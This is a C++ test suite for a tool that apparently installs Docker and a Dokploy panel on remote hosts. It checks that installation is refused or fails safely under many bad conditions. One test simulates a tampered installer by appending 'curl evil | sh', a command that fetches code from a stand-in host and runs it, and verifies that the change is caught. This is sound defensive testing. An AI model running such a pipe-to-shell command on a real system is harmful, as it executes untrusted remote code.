// SPDX-FileCopyrightText: 2026 The Envdeck authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/bootstrap/host_steps.h"
#include "core/bootstrap/root_script.h"
#include "tests/real/bootstrap/scripted_host.h"

namespace envdeck::testing {
namespace {

using namespace bootstrap;
using bootstrap::Check;
using bootstrap::Plan;
using bootstrap::Verdict;
using namespace std::chrono_literals;

class BootstrapBadDay : public ScriptedHost {
protected:
    QString refusal(const char *step)
    {
        const auto reviewed = review();
        if (!reviewed)
            return reviewed.error().detail;
        const PlanItem *item = reviewed.value().plan.item(QString::fromLatin1(step));
        return item && item->verdict == Verdict::Refused ? item->why : QString();
    }
    void bringDocker() { QFile::link(s("program.sh"), root.filePath(s("sbin/docker"))); }
};

TEST_F(BootstrapBadDay, NeverInstallsIntoASwarm)
{
    bringDocker();
    put("swarm", "active");
    EXPECT_EQ(refusal("install"), s("in-swarm"));
    EXPECT_FALSE(service->job(review().value()));
    EXPECT_EQ(web->count("GET /install.sh"), 0);

    // It joins one after the review.
    put("swarm", "inactive");
    const auto reviewed = review();
    put("swarm", "active");
    const JobStatus status = ran(reviewed.value());
    EXPECT_EQ(status.state, JobState::Failed);
    EXPECT_EQ(failure(status).code, ErrorCode::Conflict);
    EXPECT_EQ(failure(status).detail, s("in-swarm"));

    // And after our last look: the script on the host looks once more, in the same breath.
    const QString digest = ask().installer;
    const QString folder = root.filePath(s("home/envdeck"));
    QDir().mkpath(folder);
    QFile file(folder + s("/installer-") + digest + s(".sh"));
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(installer);
    file.close();
    const auto direct = answerOf(shell->run(
        host, asRoot(shellValue("F", folder) + shellValue("H", digest) + resource(s("install.sh"))), {20s},
        {}));
    ASSERT_TRUE(direct);
    EXPECT_EQ(direct.value().exitCode, 92);
    EXPECT_TRUE(has("destroyed").isNull());
}

TEST_F(BootstrapBadDay, RefusesAHostThatCannotDo)
{
    const auto why = [this](const char *name) {
        const auto reviewed = review();
        if (!reviewed)
            return reviewed.error().detail;
        for (const Check &check : reviewed.value().plan.checks) {
            if (check.name == QLatin1String(name) && check.state == Check::State::Refused)
                return check.why;
        }
        return QString();
    };
    put("uid", "1000"); // and sudo wants a password
    EXPECT_EQ(why("rights"), s("no-sudo"));
    put("uid", "0");
    put("disk", "4000000");
    EXPECT_EQ(why("disk"), s("disk-small"));
    put("disk", "41943040");
    put("memory", "900000");
    EXPECT_EQ(why("memory"), s("memory-small"));
    put("memory", "4194304");
    put("boot", fileContent(s("/proc/sys/kernel/random/boot_id"))); // a host of the sandbox is one of these
    EXPECT_EQ(why("place"), s("this-computer"));
    put("boot", "another");
    put("listeners", "LISTEN 0 511 0.0.0.0:80 0.0.0.0:* users:((\"nginx\",pid=7,fd=6))\n");
    const auto reviewed = review();
    ASSERT_TRUE(reviewed);
    EXPECT_EQ(why("ports"), s("port-busy"));
    EXPECT_EQ(reviewed.value().look.listens.value(80), s("nginx"));
    EXPECT_FALSE(service->job(reviewed.value()));
}

TEST_F(BootstrapBadDay, RunsOnlyTheInstallerThatWasRead)
{
    Ask unread = ask();
    unread.installer.clear();
    const auto first = review(unread);
    ASSERT_TRUE(first);
    EXPECT_EQ(first.value().plan.item(s("install"))->why, s("installer-unread"));
    EXPECT_EQ(first.value().installer()->text, installer);

    const auto reviewed = review();
    ASSERT_FALSE(reviewed.value().plan.isRefused());
    serve(installer + "curl evil | sh\n"); // between the review and the run
    const JobStatus changed = ran(reviewed.value());
    EXPECT_EQ(failure(changed).detail, s("installer-changed"));
    EXPECT_EQ(refusal("install"), s("installer-changed"));

    serve(installer.left(200)); // no line end: half of it
    EXPECT_EQ(refusal("install"), s("installer-unavailable"));
    ScriptedReply torn;
    torn.body = installer;
    torn.truncateAt = 300;
    web->on("GET /install.sh", {torn});
    EXPECT_EQ(refusal("install"), s("installer-unavailable"));
    ScriptedReply away;
    away.status = 302;
    away.headers = {{"Location", "https://example.org/install.sh"}};
    web->on("GET /install.sh", {away});
    EXPECT_EQ(refusal("install"), s("installer-unavailable"));
    serve(installer + QByteArray(installerCap, '#') + '\n');
    EXPECT_EQ(refusal("install"), s("installer-unavailable"));
    EXPECT_FALSE(QFile::exists(root.filePath(s("sbin/docker")))); // nothing of any of them ever ran
}

// Docker was taken away, and a swarm sleeps in what it left.
TEST_F(BootstrapBadDay, NeverInstallsOverWhatADockerLeft)
{
    const auto reviewed = review();
    put("remains");
    EXPECT_EQ(refusal("install"), s("remains-there"));
    EXPECT_EQ(failure(ran(reviewed.value())).detail, s("remains-there"));
    EXPECT_TRUE(has("installers").isNull());
}

// Cancelled, the installer goes on; nobody starts a second one beside it, and whoever resumes sees its end.
TEST_F(BootstrapBadDay, NeverRunsTwoInstallersAtOnce)
{
    put("slow");
    const auto reviewed = review();
    const auto operation = center->start(service->job(reviewed.value()).value());
    ASSERT_TRUE(operation);
    ASSERT_TRUE(eventually([&] { return !has("installers").isNull(); }, 60s));
    EXPECT_TRUE(center->cancel(operation.value()));
    const JobStatus cancelled = ended(operation.value());
    EXPECT_EQ(cancelled.state, JobState::Unknown);
    EXPECT_EQ(failure(cancelled).detail, s("goes-on"));
    EXPECT_EQ(refusal("install"), s("installer-runs"));
    // Somebody with another computer, whose review is older.
    const auto script = asRoot(shellValue("F", root.filePath(s("home/envdeck"))) +
                               shellValue("H", ask().installer) + resource(s("install.sh")));
    const auto second = answerOf(shell->run(host, script, {20s}, {}));
    ASSERT_TRUE(second);
    EXPECT_EQ(second.value().exitCode, 94);

    QFile::remove(root.filePath(s("state/slow")));
    ASSERT_TRUE(center->resume(operation.value()));
    EXPECT_EQ(ended(operation.value()).state, JobState::Succeeded);
    EXPECT_EQ(has("installers"), s("begun"));
    EXPECT_TRUE(has("destroyed").isNull());
}

// A Docker that fails to answer is no Docker that says no.
TEST_F(BootstrapBadDay, TakesNoSilenceForAnAnswer)
{
    ASSERT_EQ(ran(review().value()).state, JobState::Succeeded);
    for (const char *mute : {"mute-ps", "mute-service"}) {
        QFile::remove(root.filePath(s("state/closed"))); // somebody opened it again
        put(mute);
        const auto reviewed = review();
        ASSERT_TRUE(reviewed);
        EXPECT_FALSE(reviewed.value().look.dockerAnswers) << mute;
        EXPECT_NE(reviewed.value().plan.item(s("close-port"))->verdict, Verdict::Adopt) << mute;
        EXPECT_TRUE(reviewed.value().plan.isRefused()) << mute;
        QFile::remove(root.filePath(s("state/") + QString::fromLatin1(mute)));
    }
}

TEST_F(BootstrapBadDay, SaysWhatDoesNotComeUp)
{
    put("installs-nothing");
    const JobStatus nothing = ran(review().value());
    EXPECT_EQ(failure(nothing).detail, s("not-installed")); // it left with 0
    QFile::remove(root.filePath(s("state/installs-nothing")));
    QFile::remove(root.filePath(s("state/swarm")));

    put("replicas", "0/1");
    pace.healthFor = 300ms;
    beginProcess();
    const JobStatus sick = ran(review().value());
    EXPECT_EQ(failure(sick).code, ErrorCode::Unhealthy);
    EXPECT_EQ(failure(sick).detail, s("dokploy 0/1, postgres 1/1, traefik running"));
    put("dokploy", "1/1"); // it needed longer
    EXPECT_EQ(ran(review().value()).state, JobState::Succeeded);
}

TEST_F(BootstrapBadDay, TakesNoPanelThatSomebodyElseOwns)
{
    panel->setup().mail = s("eve@example.com");
    panel->setup().password = s("hers");
    const JobStatus status = ran(review().value());
    EXPECT_EQ(failure(status).code, ErrorCode::Conflict);
    EXPECT_EQ(failure(status).detail, s("admin-exists"));
    EXPECT_TRUE(panel->setup().keys.isEmpty());
    // A key of theirs is all it takes.
    panel->setup().keys.insert(s("given"));
    ASSERT_TRUE(answerOf(
        vault->write(secrets::dokployKey(workspace, workspace.environments.first()), Secret("given"))));
    EXPECT_EQ(ran(review().value()).state, JobState::Succeeded);
}

TEST_F(BootstrapBadDay, WaitsForTheNameAndSaysSo)
{
    pace.certificateFor = 200ms;
    beginProcess();
    panelSays = [] { return Result<void>(Error{ErrorCode::Unreachable, {}, s("no-dns"), 0}); };
    const JobStatus nameless = ran(review().value());
    EXPECT_EQ(failure(nameless).code, ErrorCode::Timeout);
    EXPECT_EQ(failure(nameless).detail, s("no-dns"));
    EXPECT_EQ(noteOf(nameless, "certificate"), s("no-dns"));
    EXPECT_TRUE(has("closed").isNull()); // the only way in stays open
    panelSays = [] { return Result<void>(Error{ErrorCode::Tls, {}, {}, 0}); };
    EXPECT_EQ(failure(ran(review().value())).detail, s("certificate-pending"));
    panelSays = [] { return Result<void>(); };
    EXPECT_EQ(ran(review().value()).state, JobState::Succeeded);
    EXPECT_FALSE(has("closed").isNull());
}

TEST_F(BootstrapBadDay, TellsNoPasswordThatDockerRepeats)
{
    panel->setup().refusedPassword = s("hub-canary");
    const JobStatus status = ran(review().value());
    EXPECT_EQ(status.state, JobState::Failed);
    EXPECT_TRUE(failure(status).detail.contains(s("docker login")));
    EXPECT_FALSE(failure(status).detail.contains(s("hub-canary")));
}

TEST_F(BootstrapBadDay, StopsAtPackagesThatDoNotInstall)
{
    const auto reviewed = review();
    put("broken");
    const JobStatus status = ran(reviewed.value());
    EXPECT_EQ(failure(status).code, ErrorCode::ToolFailed);
    EXPECT_EQ(failure(status).detail, s("E: Could not get lock"));
    EXPECT_TRUE(has("firewall").isNull());
}

// Nobody could log in after it began: it switches itself off.
TEST_F(BootstrapBadDay, TheFirewallGivesUpWhenNobodyGetsIn)
{
    const QByteArray body =
        shellValue("F", root.filePath(s("home/envdeck"))) + "W=22\nT=1\n" + resource(s("firewall.sh"));
    ASSERT_TRUE(answerOf(shell->run(host, asRoot(body), {20s}, {})));
    EXPECT_TRUE(eventually([&] { return has("firewall").isNull(); }, 20s));
    EXPECT_TRUE(fileContent(root.filePath(s("state/calls"))).contains("ufw disable"));
}

TEST_F(BootstrapBadDay, LeavesASwapFileOfOthersAlone)
{
    QFile other(root.filePath(s("home/swapfile")));
    ASSERT_TRUE(other.open(QIODevice::WriteOnly));
    other.write("theirs");
    other.close();
    const JobStatus status = ran(review().value());
    EXPECT_EQ(failure(status).code, ErrorCode::ToolFailed);
    EXPECT_TRUE(failure(status).detail.contains(s("not ours")));
    EXPECT_EQ(fileContent(other.fileName()), "theirs");
}

} // namespace
} // namespace envdeck::testing
